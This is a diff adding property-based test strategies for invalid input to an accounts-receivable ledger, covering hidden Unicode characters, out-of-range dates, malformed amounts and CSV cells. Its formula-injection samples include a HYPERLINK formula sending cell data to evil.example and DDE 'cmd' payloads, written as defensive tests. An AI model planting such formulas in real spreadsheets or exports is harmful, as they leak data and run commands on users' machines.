@@ -64,6 +64,8 @@ from arledger.domain.events import (
 )
 from arledger.domain.money import Money
 from arledger.domain.policy import AgeingBasis, AgeingPolicy, EscalationPolicy
+from arledger.domain.rules import DATE_MAX as RULES_DATE_MAX
+from arledger.domain.rules import DATE_MIN as RULES_DATE_MIN
 from arledger.domain.rules import TERMS_DAYS_MAX
 
 AMOUNT_MINOR_MIN: Final = 1
@@ -653,3 +655,169 @@ def command_sequences(draw: st.DrawFn, *, length_max: int = COMMANDS_MAX) -> lis
     sequence = prefix + rest
     assert len(sequence) <= length_max
     return sequence
+
+
+# Bad text, dates and amounts (issue 9.11, 9.13, 9.14) -------------------------------------------
+# What the domain refuses (domain/text.py, rules.DATE_MIN..DATE_MAX, money.parse_amount), drawn
+# from the classes of characters and forms the rules name, each hidden inside otherwise good
+# input. Kept apart from the importer's strategies above: these feed commands and queries.
+
+lone_surrogates = st.characters(categories=["Cs"])
+"""What Python makes of bytes that are not UTF-8 (surrogateescape) or of half an escaped pair."""
+control_characters = st.characters(categories=["Cc"])
+"""C0 and C1 controls and DEL: tab, newline and carriage return among them."""
+line_separators = st.sampled_from(["\u2028", "\u2029"])
+direction_controls = st.sampled_from(
+    sorted("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+)
+invisible_characters = st.one_of(
+    st.sampled_from(["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e"]),
+    st.characters(categories=["Cf", "Co", "Zl", "Zp"]),
+    st.characters(categories=["Zs"]).filter(lambda c: c != " "),  # no-break, ideographic, ...
+)
+"""Characters a key may not hold although a name may (but for the separators): they print as
+nothing, or as a space, so two keys differing only by them print the same."""
+
+good_key_parts = st.text(
+    alphabet=string.ascii_uppercase + string.digits + "-", min_size=1, max_size=8
+)
+
+
+@st.composite
+def text_around(draw: st.DrawFn, bad: st.SearchStrategy[str]) -> str:
+    """A short key-like text with one ``bad`` character inside it (never at an end, so the
+    text is not refused only for being padded or blank)."""
+    return draw(good_key_parts) + draw(bad) + draw(good_key_parts)
+
+
+def decomposed_keys() -> st.SearchStrategy[str]:
+    """A key with a letter and its combining accent as two characters (not NFC)."""
+    return st.tuples(
+        good_key_parts,
+        st.sampled_from(["E\u0301", "U\u0308", "A\u030a", "C\u0327", "N\u0303"]),
+        good_key_parts,
+    ).map("".join)
+
+
+bad_keys = st.one_of(
+    text_around(lone_surrogates),
+    text_around(control_characters),
+    text_around(line_separators | direction_controls),
+    text_around(invisible_characters),
+    decomposed_keys(),
+)
+"""Keys (codes, numbers, references, owners, collectors, approvers) the domain refuses."""
+bad_names = st.one_of(
+    text_around(lone_surrogates),
+    text_around(control_characters),
+    text_around(line_separators | direction_controls),
+)
+"""Single-line text (names, contacts, phones) the domain refuses."""
+bad_notes = st.one_of(
+    text_around(lone_surrogates),
+    text_around(control_characters.filter(lambda c: c != "\n")),
+    text_around(line_separators | direction_controls),
+)
+"""Multi-line text (reasons, notes, outcomes) the domain refuses: a newline alone is allowed."""
+
+dates_outside_range = st.one_of(
+    st.dates(max_value=RULES_DATE_MIN - timedelta(days=1)),
+    st.dates(min_value=RULES_DATE_MAX + timedelta(days=1)),
+    st.sampled_from([date(1, 1, 1), date(9999, 12, 31)]),
+)
+"""Business dates outside rules.DATE_MIN..DATE_MAX: refused by every command and query."""
+
+other_script_digits = st.characters(categories=["Nd"]).filter(lambda c: not c.isascii())
+
+
+@st.composite
+def bad_amount_texts(draw: st.DrawFn) -> str:
+    """A well-formed amount ("1,234.50") spoiled in one way Decimal() or int() would forgive."""
+    units = draw(st.integers(1, 10**9))
+    cents = draw(st.integers(0, 99))
+    plain = f"{units}.{cents:02d}"
+    spoil = draw(st.sampled_from(["underscore", "digit", "space", "special", "exponent", "sign"]))
+    if spoil == "underscore":  # "1_000.00": int() and Decimal() drop the underscore
+        digits = str(units)
+        if len(digits) < 2:
+            digits = "1" + digits
+        at = draw(st.integers(1, len(digits) - 1))
+        return f"{digits[:at]}_{digits[at:]}.{cents:02d}"
+    if spoil == "digit":  # "１２.00", "١٢": another script's digit for one of ours
+        at = draw(st.integers(0, len(plain) - 1).filter(lambda i: plain[i].isdigit()))
+        return plain[:at] + draw(other_script_digits) + plain[at + 1 :]
+    if spoil == "space":  # "1 000.00", "1\u00a0000.00": a space inside the figure
+        digits = "1" + str(units)
+        at = draw(st.integers(1, len(digits) - 1))
+        space = draw(st.characters(categories=["Zs"]) | st.sampled_from(["\t", "\u200b"]))
+        return f"{digits[:at]}{space}{digits[at:]}.{cents:02d}"
+    if spoil == "special":  # what Decimal() reads as a number that is none
+        sign = draw(st.sampled_from(["", "-", "+"]))
+        return sign + draw(st.sampled_from(["NaN", "nan", "sNaN", "Infinity", "inf", "INF"]))
+    if spoil == "exponent":  # a figure a spreadsheet has already rounded
+        return plain + draw(st.sampled_from(["e3", "E+2", "e-1", "E0"]))
+    return draw(st.sampled_from(["+-", "-+", "--", "++"])) + plain
+
+
+# Import files and CSV outputs (issue 9: items 2, 13 and 16) -----------------------------------
+# Kept apart from the other bad-input strategies: what a CSV cell, row or header can be that an
+# import must refuse, and text a spreadsheet would evaluate.
+
+FORMULA_STARTS_TEXT: Final = "=+-@\t\r"
+"""The first characters that make a spreadsheet evaluate a cell (OWASP)."""
+
+csv_texts = st.text(
+    st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30
+)
+"""Any text a CSV cell can hold (no lone surrogates, no NUL)."""
+
+formula_texts = st.builds(
+    lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS_TEXT), csv_texts
+) | st.sampled_from(
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "=cmd|' /C calc'!A0",
+        "+SUM(A1:A9)",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "'=1+1",
+        "-12.00",  # a plain number: left as it is
+        "-1.5E+3",
+    ]
+)
+"""Text beginning as a formula would (and a few plain numbers, which are not formulas)."""
+
+non_ascii_digits = st.characters(categories=["Nd", "No"]).filter(
+    lambda character: character.isdigit() and not character.isascii()
+)
+"""Characters ``str.isdigit`` calls digits that are not 0-9: other scripts' digits (which
+``int`` reads), superscripts and circled digits (which it cannot)."""
+
+
+@st.composite
+def non_ascii_digit_texts(draw: st.DrawFn, length_max: int = 3) -> str:
+    """A number of days with at least one digit other than 0-9 among ASCII ones."""
+    digits = draw(st.lists(st.sampled_from(string.digits), max_size=length_max - 1))
+    digits.insert(draw(st.integers(0, len(digits))), draw(non_ascii_digits))
+    return "".join(digits)
+
+
+@st.composite
+def cell_count_changes(draw: st.DrawFn, columns: int) -> int:
+    """How many cells to add to (positive) or take from (negative) a row of ``columns``; never
+    zero, and never all of them (a row of no cells is a blank line)."""
+    return draw(st.integers(-(columns - 1), 3).filter(lambda change: change != 0))
+
+
+@st.composite
+def repeated_column_names(draw: st.DrawFn, header: list[str]) -> list[str]:
+    """``header`` with one column named like another (maybe padded with spaces, which the
+    importer strips)."""
+    first, second = sorted(
+        draw(st.lists(st.sampled_from(range(len(header))), min_size=2, max_size=2, unique=True))
+    )
+    renamed = list(header)
+    renamed[second] = draw(st.sampled_from(["", " ", "  "])) + header[first]
+    return renamed
